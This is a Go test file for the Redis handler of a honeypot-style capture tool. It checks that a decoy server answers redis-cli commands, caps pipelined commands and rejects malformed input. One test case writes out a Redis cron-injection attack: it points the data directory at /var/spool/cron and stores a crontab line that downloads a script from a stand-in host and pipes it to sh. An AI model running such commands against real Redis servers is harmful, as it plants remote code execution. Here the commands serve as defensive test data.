package redis_test

import (
	"net"
	"os/exec"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/handlers"
	"github.com/spoki-telescope/spoki/handlers/generic"
	"github.com/spoki-telescope/spoki/handlers/handlerstest"
	"github.com/spoki-telescope/spoki/handlers/redis"
	"github.com/spoki-telescope/spoki/records"
)

// serve runs a Mux with the redis handler on port 6379 behind a 127.0.0.1
// listener and returns the listener's address and the session recorder.
func serve(t *testing.T, cfg redis.Config) (string, *handlerstest.Recorder) {
	t.Helper()
	reg := handlers.NewRegistry(generic.New(generic.Config{}))
	reg.Register(redis.New(cfg), handlers.Matcher{Content: redis.Match, Ports: redis.Ports})
	return handlerstest.Serve(t, handlers.MuxConfig{Registry: reg, FirstDataTimeout: time.Second}, 6379)
}

func detail(t *testing.T, s *records.Session) redis.Detail {
	t.Helper()
	d, ok := s.Detail.(redis.Detail)
	if s.AppProto != redis.Name || !ok {
		t.Fatalf("session app_proto %q detail %T, want %q, redis.Detail", s.AppProto, s.Detail, redis.Name)
	}
	return d
}

// TestRedisCLI drives the handler with the real redis-cli: each command is
// one connection, answered as redis-server would.
func TestRedisCLI(t *testing.T) {
	cli := handlerstest.RequireTool(t, "redis-cli", "redis-tools")
	addr, rec := serve(t, redis.Config{})
	host, port, _ := net.SplitHostPort(addr)
	tests := []struct {
		name string
		args []string
		want string // in redis-cli's output
	}{
		{name: "ping", args: []string{"PING"}, want: "PONG"},
		{name: "info", args: []string{"INFO", "server"}, want: "redis_version:5.0.7"},
		{name: "config set", args: []string{"CONFIG", "SET", "dir", "/var/spool/cron"}, want: "OK"},
		{name: "set cron", args: []string{"SET", "x", "\n*/1 * * * * curl -fsSL http://192.0.2.9/b.sh | sh\n"}, want: "OK"},
		{name: "keys", args: []string{"KEYS", "*"}, want: ""},
		{name: "unknown", args: []string{"SYSTEM.EXEC", "id"}, want: "ERR unknown command `SYSTEM.EXEC`"},
	}
	for i, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out, err := exec.Command(cli, append([]string{"-h", host, "-p", port}, tc.args...)...).CombinedOutput()
			if err != nil || !strings.Contains(string(out), tc.want) {
				t.Fatalf("redis-cli %q = %q, %v; want %q", tc.args, out, err, tc.want)
			}
			d := detail(t, rec.Wait(t, i+1)[i])
			if want := [][]string{tc.args}; !reflect.DeepEqual(d.Commands, want) || d.Truncated {
				t.Errorf("commands %q, truncated %v; want %q, false", d.Commands, d.Truncated, want)
			}
		})
	}
}

// TestPipelineCap sends more commands than the cap in one segment: the
// handler answers and records MaxCommands of them, then resets.
func TestPipelineCap(t *testing.T) {
	addr, rec := serve(t, redis.Config{MaxCommands: 3})
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Write([]byte(strings.Repeat("*1\r\n$4\r\nPING\r\n", 5))); err != nil {
		t.Fatal(err)
	}
	s := rec.Wait(t, 1)[0]
	d := detail(t, s)
	if len(d.Commands) != 3 || !d.Truncated || s.Error != "" || s.BytesToClient != int64(3*len("+PONG\r\n")) {
		t.Errorf("commands %q, truncated %v, error %q, to_client %d; want 3 PINGs, true, none, 21",
			d.Commands, d.Truncated, s.Error, s.BytesToClient)
	}
}

// TestMalformed: garbage that starts like RESP ends the session with an
// error and a reset.
func TestMalformed(t *testing.T) {
	addr, rec := serve(t, redis.Config{})
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Write([]byte("*1\r\n$99999999\r\n")); err != nil {
		t.Fatal(err)
	}
	s := rec.Wait(t, 1)[0]
	if d := detail(t, s); len(d.Commands) != 0 || !strings.Contains(s.Error, "malformed") {
		t.Errorf("commands %q, error %q; want none, malformed", d.Commands, s.Error)
	}
}
